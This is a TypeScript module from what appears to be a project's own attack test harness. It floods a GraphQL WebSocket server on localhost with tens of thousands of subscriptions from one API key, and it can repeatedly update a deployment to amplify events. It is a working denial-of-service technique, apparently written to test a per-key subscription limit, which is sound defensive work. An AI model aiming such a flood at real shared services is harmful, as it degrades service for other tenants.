/**
 * 40,000 graphql-ws subscriptions from one key (issue 33): `subscriptionSockets` WebSockets
 * (graphql-transport-ws, the key in `connection_init`), each subscribing its share to
 * `replicaLoad` (or `deploymentUpdated`) of the attacker's own deployment, so that every
 * heartbeat of its replica is rendered and sent once per subscription. With
 * `subscriptionUpdateMs` the attacker also changes its deployment that often (updateDeployment),
 * which fans `deploymentUpdated` out. At 4102d34 one key was allowed 200,000 subscriptions; at
 * 40,000, other tenants' chat took 16.8 s.
 *
 * graphql-ws does not acknowledge a subscribe: the attacker holds a subscription while no error
 * or close came for it, and the proof that one is served is an event it received. The ramp-up
 * ends when the server has read every subscribe (each socket's `ping` after its subscribes was
 * answered), not when they were sent.
 */
import { WebSocket } from 'ws';
import { round, sleep, Tally, type AttackJob, type AttackReport, type HostileAttack } from '../attack';
import { graphql } from '../http-call';

/** Subscribe messages sent per event-loop turn: the attacker's own loop must keep reading. */
const SUBSCRIBES_PER_TURN = 200;

class Subscriptions implements HostileAttack {
  private readonly sockets: WebSocket[] = [];
  private readonly answers = new Tally();
  /** Subscriptions sent and refused (an `error` or `complete` came for them), per socket. */
  private readonly sentOn: number[] = [];
  private readonly refusedOn: number[] = [];
  private readonly receiving = new Set<string>();
  private events = 0;
  private eventBytes = 0;
  private sent = 0;
  private stopped = false;
  private startedAt = 0;
  private updater: Promise<void> | null = null;
  private updates = new Tally();

  constructor(private readonly job: AttackJob) {}

  async go(): Promise<void> {
    this.startedAt = performance.now();
    const { subscriptions, subscriptionSockets, subscriptionUpdateMs } = this.job.settings;
    const perSocket = Math.ceil(subscriptions / subscriptionSockets);
    if (subscriptionUpdateMs > 0) this.updater = this.update();
    const deadline = performance.now() + this.job.rampMs;
    await Promise.all(Array.from({ length: subscriptionSockets }, (_, index) => this.open(index, Math.min(perSocket, subscriptions - index * perSocket), deadline)));
  }

  /** One socket: init, then its subscriptions in slices, then a ping; resolves at the pong (or when it closed, or at the deadline). */
  private open(index: number, count: number, deadline: number): Promise<void> {
    if (count <= 0) return Promise.resolve();
    const { port, keys, deployments } = this.job.target;
    const socket = new WebSocket(`ws://127.0.0.1:${port}/graphql`, 'graphql-transport-ws', { perMessageDeflate: false });
    this.sockets[index] = socket;
    this.sentOn[index] = 0;
    this.refusedOn[index] = 0;
    const field = this.job.settings.subscriptionField;
    const query = field === 'replicaLoad'
      ? `subscription { replicaLoad(deploymentId: "${deployments[0]!.id}") { replicaId inFlight queued engineHealth at } }`
      : 'subscription { deploymentUpdated { id status priceCapPerHour updatedAt } }';
    return new Promise<void>((resolve) => {
      setTimeout(resolve, Math.max(0, deadline - performance.now()));
      socket.on('error', (error: NodeJS.ErrnoException) => this.answers.add(`socket error ${error.code ?? error.message}`));
      socket.on('unexpected-response', (_request, response) => {
        this.answers.add(`upgrade refused ${response.statusCode}`);
        resolve();
      });
      socket.on('close', (code) => {
        this.answers.add(`close ${code}`);
        resolve();
      });
      socket.on('open', () => socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${keys[0]}` } })));
      socket.on('message', (data: Buffer) => {
        // Events are most of the traffic: told apart without parsing them.
        const text = data.toString('latin1', 0, 64);
        if (text.includes('"type":"next"')) {
          this.events++;
          this.eventBytes += data.length;
          const id = /"id":"([^"]+)"/.exec(text)?.[1];
          if (id) this.receiving.add(id);
          return;
        }
        const message = JSON.parse(data.toString('utf8')) as { type: string; id?: string; payload?: Array<{ extensions?: { code?: string } }> };
        if (message.type === 'connection_ack') {
          void this.subscribe(socket, index, count, query, deadline).then(() => socket.send('{"type":"ping"}'));
        } else if (message.type === 'pong') {
          resolve();
        } else if (message.type === 'error') {
          this.refusedOn[index]++;
          this.answers.add(`error ${message.payload?.[0]?.extensions?.code ?? 'unknown'}`);
        } else if (message.type === 'complete') {
          this.refusedOn[index]++;
          this.answers.add('complete');
        }
      });
    });
  }

  private async subscribe(socket: WebSocket, index: number, count: number, query: string, deadline: number): Promise<void> {
    for (let sent = 0; sent < count && !this.stopped && socket.readyState === socket.OPEN && performance.now() < deadline; sent++) {
      socket.send(`{"id":"s${index}-${sent}","type":"subscribe","payload":{"query":${JSON.stringify(query)}}}`);
      this.sent++;
      this.sentOn[index]++;
      if (sent % SUBSCRIBES_PER_TURN === SUBSCRIBES_PER_TURN - 1) await new Promise((resolve) => setImmediate(resolve));
    }
  }

  /** updateDeployment every `subscriptionUpdateMs`, so each `deploymentUpdated` subscriber gets an event. */
  private async update(): Promise<void> {
    const { port, keys, deployments } = this.job.target;
    for (let index = 0; !this.stopped; index++) {
      const answer = await graphql(port, keys[0], 'mutation($id: ID!, $cap: Float!) { updateDeployment(id: $id, input: {priceCapPerHour: $cap}) { id } }',
        { id: deployments[0]!.id, cap: 5 + (index % 2) }, { timeoutMs: this.job.settings.timeoutMs });
      this.updates.add(answer.error ? `${answer.status} ${answer.error}` : 'updated');
      await sleep(this.job.settings.subscriptionUpdateMs);
    }
  }

  async stop(): Promise<AttackReport> {
    this.stopped = true;
    const seconds = (performance.now() - this.startedAt) / 1000;
    const sockets = this.sockets.filter(Boolean);
    const openIndexes = this.sockets.flatMap((socket, index) => (socket && socket.readyState === socket.OPEN ? [index] : []));
    const accepted = openIndexes.reduce((sum, index) => sum + this.sentOn[index] - this.refusedOn[index], 0);
    for (const socket of sockets) socket.terminate();
    await this.updater;
    return {
      achieved: {
        'subscribe messages sent': this.sent,
        'subscriptions held (no error, socket open)': accepted,
        'subscriptions that received an event': this.receiving.size,
        'events received': this.events,
        'event MB received': round(this.eventBytes / 1e6),
        'sockets open at the end': `${openIndexes.length} of ${sockets.length}`,
        ...(this.job.settings.subscriptionUpdateMs > 0 ? { 'deployment updates': Object.entries(this.updates.counts).map(([what, count]) => `${what} ×${count}`).join(', ') } : {}),
      },
      answers: this.answers.counts, seconds: round(seconds),
    };
  }
}

export function subscriptions(job: AttackJob): HostileAttack {
  return new Subscriptions(job);
}
